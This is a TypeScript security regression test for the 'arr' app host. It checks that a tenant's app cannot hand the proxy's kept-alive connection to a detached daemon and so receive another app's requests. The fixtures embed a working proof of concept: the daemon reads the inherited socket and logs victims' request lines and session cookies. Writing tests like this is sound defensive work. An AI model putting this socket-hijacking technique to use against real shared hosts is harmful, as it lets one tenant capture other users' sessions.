import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type ArrUnderTest, fetchVia, helloApp, startArrWith } from '../support/arr.js';
import { until } from '../support/poll.js';
import { alive, stopAll } from '../support/proc.js';
import { inlineApp } from '../support/wsclient.js';

// Finding 1 of the security review: a tenant's instance hands arr's kept-alive connection to a
// daemon of its own (setsid: out of its process group), closes its listener and exits. When
// the port was given to another app, arr sent that app's requests down the old connection to
// the daemon. Connections now belong to an instance, and go when it does; the daemon goes
// with its instance's cgroup where arr can make one.

/** Reads requests from fd 3 (arr's connection, inherited) and answers each "stolen". */
const DAEMON = `
const net = require('node:net');
const s = new net.Socket({ fd: 3, readable: true, writable: true });
let buf = '';
s.on('error', () => {});
s.on('data', (d) => {
  buf += d;
  for (let i = buf.indexOf('\\r\\n\\r\\n'); i >= 0; i = buf.indexOf('\\r\\n\\r\\n')) {
    const head = buf.slice(0, i);
    buf = buf.slice(i + 4);
    console.log('STOLEN ' + head.split('\\r\\n')[0] + ' cookie=' + ((/cookie: (.*)/i.exec(head) || [])[1] || '-'));
    s.write('HTTP/1.1 200 OK\\r\\ncontent-length: 7\\r\\nkeep-alive: timeout=600\\r\\n\\r\\nstolen\\n');
  }
});
setInterval(() => {}, 1000);
`;

const TENANT_APP = `
import http from 'node:http';
import { spawn } from 'node:child_process';
const DAEMON = ${JSON.stringify(DAEMON)};
const server = http.createServer((req, res) => {
  if (req.url === '/escape') {
    const daemon = spawn(process.execPath, ['-e', DAEMON], {
      detached: true,
      stdio: ['ignore', 'inherit', 'inherit', req.socket],
    });
    daemon.unref();
    const body = 'daemon ' + daemon.pid + '\\n';
    res.writeHead(200, { 'keep-alive': 'timeout=600', 'content-length': Buffer.byteLength(body) });
    res.end(body, () => {
      server.close();
      setTimeout(() => process.exit(0), 50);
    });
    return;
  }
  res.writeHead(200, { 'keep-alive': 'timeout=600', 'content-length': 7 });
  res.end('tenant\\n');
});
server.keepAliveTimeout = 600_000;
server.listen(Number(process.env.PORT), '127.0.0.1');
`;

describe("a tenant's daemon cannot keep arr's connections to receive another app's requests", () => {
  let arr: ArrUnderTest;
  before(async () => {
    arr = await startArrWith(
      [
        inlineApp(TENANT_APP, [{ host: 'tenant.localhost', ssl: 'allowed' }]),
        helloApp('victim', [{ host: 'victim.localhost', ssl: 'allowed' }]),
      ],
      // One port: the victim's instance gets the port the tenant's had.
      { rangeSize: 1 },
    );
  });
  after(async () => {
    await arr?.stop();
    await stopAll();
  });

  it("the victim's requests reach the victim; the daemon is gone with its instance", async () => {
    assert.equal((await fetchVia(arr.port, 'tenant.localhost', false)).text, 'tenant\n');
    const escaped = await fetchVia(arr.port, 'tenant.localhost', false, { path: '/escape' });
    const daemon = Number(/daemon (\d+)/.exec(escaped.text)?.[1]);
    assert.ok(daemon > 0, escaped.text);
    await arr.proc.waitFor(/tenant\.localhost\[\d+\] exited/);

    for (let i = 0; i < 3; i++) {
      const r = await fetchVia(arr.port, 'victim.localhost', false, {
        headers: { cookie: 'session=victim' },
      });
      assert.match(r.text, /victim/, `request ${i} answered by the victim, not "${r.text.trim()}"`);
    }
    assert.doesNotMatch(arr.proc.output(), /STOLEN/);
    if (/instances run without a cgroup of their own/.test(arr.proc.output())) {
      console.log('# no cgroup here: the daemon outlives its instance (docs/isolation.md, Tenant isolation)');
      process.kill(daemon, 'SIGKILL');
    } else {
      await until('the daemon to be killed with its instance', () => !alive(daemon), { timeoutMs: 5_000 });
    }
  });
});
